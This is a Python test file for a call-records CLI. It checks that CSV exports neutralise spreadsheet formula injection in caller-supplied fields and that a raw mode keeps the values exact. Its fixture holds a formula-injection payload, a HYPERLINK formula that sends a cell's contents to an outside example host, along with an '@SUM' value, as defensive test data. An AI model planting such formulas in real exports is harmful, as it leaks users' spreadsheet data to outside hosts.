"""CSV that people open in a spreadsheet: what callers have chosen is no formula there; programs get it as it is."""

import asyncio
import csv
import io

import click.testing
import pytest
from doubles.data.records import answered_call
from doubles.deck_site import Site
from msgspec.structs import replace

from vosd.cli.main import main
from vosd.storage.books import SqlBooks
from vosd.storage.database import Database

FORMULA = '=HYPERLINK("http://example.org/"&A1)'


@pytest.fixture
def site(tmp_path) -> Site:
    made = Site(tmp_path)

    async def book() -> None:
        database = Database(f"sqlite+aiosqlite:///{tmp_path}/vosd.db")
        record = replace(answered_call(1), caller_in="+4930123", callee_in=FORMULA, sip_call_id_in="@SUM(1)")
        await SqlBooks(database).book([record])
        await database.close()

    asyncio.run(book())
    return made


def rows(site: Site, *words: str) -> list[dict[str, str]]:
    result = click.testing.CliRunner().invoke(main, ["-c", str(site.config), *words])
    assert result.exit_code == 0, result.output
    return [*csv.DictReader(io.StringIO(result.stdout))]


def test_cells_of_callers_are_no_formulas_in_a_listing_of_calls(site):
    (call,) = rows(site, "cdr", "list", "--csv")
    assert (call["caller_in"], call["callee_in"], call["sip_call_id_in"]) == ("'+4930123", f"'{FORMULA}", "'@SUM(1)")
    assert not [cell for cell in call.values() if cell.startswith(("=", "+", "@"))]
    (exact,) = rows(site, "cdr", "list", "--csv-raw")
    assert (exact["caller_in"], exact["callee_in"]) == ("+4930123", FORMULA)


def test_amounts_stay_numbers(site):
    amounts = [row["amount"] for row in rows(site, "ledger", "list", "--csv")]
    assert amounts
    assert all(amount.startswith("-") for amount in amounts)
